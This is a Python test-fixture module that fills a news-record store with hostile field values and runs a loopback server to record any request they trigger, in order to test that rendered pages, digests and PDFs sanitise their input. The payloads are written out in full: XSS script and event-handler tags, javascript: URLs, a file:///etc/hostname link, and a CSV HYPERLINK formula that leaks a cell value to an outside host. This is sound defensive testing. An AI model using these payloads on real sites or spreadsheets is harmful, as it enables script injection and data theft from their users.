"""A store whose every text field is hostile, and a loopback server that records any request.

Each payload names the recorder's port, so a page, digest or PDF that fetched anything it was told
to by an article would show up in `Recorder.hits`; each script sets `window.__xss` or opens a dialog.
"""
from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from detente.models import Article, Evidence, Record
from detente.store import open_store
from detente.store.base import Store


class Recorder:
    """A loopback HTTP server that answers 200 to everything and remembers each path asked for."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()
                self.wfile.write(b"\x89PNG\r\n\x1a\n")

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])
        self.url = f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> Recorder:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def recording_server() -> Iterator[Recorder]:
    with Recorder() as rec:
        yield rec


@pytest.fixture
def recorder(recording_server: Recorder) -> Recorder:
    """The recording server with no hits yet."""
    recording_server.hits.clear()
    return recording_server


@pytest.fixture(scope="session")
def hostile(recording_server: Recorder, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, dict[str, str]]:
    """(store path, payloads) of a store whose titles, outlets, authors, URLs and texts are hostile."""
    db = str(Path(tmp_path_factory.mktemp("hostile")) / "hostile.db")
    with open_store(db) as store:
        payloads = build_hostile(store, recording_server.url)
    return db, payloads


def payloads(base: str) -> dict[str, str]:
    """Hostile values for each field, every one pointing at `base` (the recorder)."""
    return {
        "title": f'<script>window.__xss="title";fetch("{base}/title-script")</script>Talks end',
        "outlet": f'<img src="{base}/outlet-img" onerror="window.__xss=\'outlet\'">'
                  f'<link rel="attachment" href="file:///etc/hostname">Evil Wire',
        "author": f'<iframe src="{base}/author-frame"></iframe><svg onload="alert(1)">Jane',
        "url": "javascript:alert(document.domain)",
        "detail": f'[click](javascript:alert(1)) ![x]({base}/md-image) <style>@import "{base}/css";</style>',
        "quote": '"><script>alert("quote")</script><a href="javascript:alert(2)">here</a>',
        "venue": f'<object data="{base}/venue-object"></object>Geneva',
        "csv": '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    }


def build_hostile(store: Store, base: str) -> dict[str, str]:
    """Two hostile articles with records of every kind; returns the payloads used."""
    p = payloads(base)
    text = (f"{p['csv']} Russia and Ukraine met for talks. {p['quote']} said the envoy. "
            f"Officials said 40 drones were launched at Kyiv. <img src=\"{base}/text-img\">")
    article = Article(file="hostile.html", index=0, text=text, title=p["title"], outlet=p["outlet"],
                      author=p["author"], published="2025-06-05", url=p["url"])
    evidence = Evidence(text[:60], 0, 60)
    gov = {"name": p["venue"], "country": "RUS", "sector": "GOV"}
    ukr = {"name": "Ukraine", "country": "UKR", "sector": "GOV"}
    records = [
        Record("talks", evidence, {"venue": {"name": p["venue"], "country": "CHE"}, "parties": ["RUS", "UKR"],
                                   "mediators": [], "format": "direct", "round": 1, "status": "held",
                                   "delegations": [], "outcomes": [{"issue": "prisoners", "result": "agreed",
                                                                    "detail": p["detail"]}]},
               "2025-06-05", "day"),
        Record("position", evidence, {"party": gov, "issue": "ceasefire", "stance": "reject",
                                      "detail": p["detail"], "precondition": False}, "2025-06-05", "day"),
        Record("event", evidence, {"type": "ASSAULT", "mode": "aerial", "cameo": "19", "actor": gov,
                                   "target": ukr, "location": {"name": p["venue"], "country": "UKR",
                                                               "lat": 50.45, "lon": 30.52},
                                   "counts": [], "claimed_by": None, "negated": False}, "2025-06-05", "day"),
        Record("claim", evidence, {"what": "drones launched", "value": 40, "unit": None, "qualifier": None,
                                   "claimant": gov, "subject": ukr}),
        Record("quote", evidence, {"speaker": gov, "text": p["quote"], "via": None}),
    ]
    for record in records:
        record.assign_id(article.id)
    store.save_article(article, records)
    other = Article(file="other.txt", index=0, text="Ukraine said 90 drones were launched at Kyiv.",
                    title="A second account", outlet=p["outlet"] + " II", published="2025-06-05")
    claim = Record("claim", Evidence(other.text, 0, len(other.text)), {
        "what": "drones launched", "value": 90, "unit": None, "qualifier": None, "claimant": ukr,
        "subject": gov})
    claim.assign_id(other.id)
    store.save_article(other, [claim])
    return p


def empty_digest_content() -> dict[str, Any]:
    """The content of a digest over an empty store (to inject markup into by hand)."""
    return {"since": None, "until": None, "articles": 0, "outlets": [], "talks": [], "changes": [],
            "matrix": {"cells": [], "parties": [], "issues": [], "incompatible": []}, "events": [],
            "disputes": [], "chart": None, "citations": [], "stories": 0}
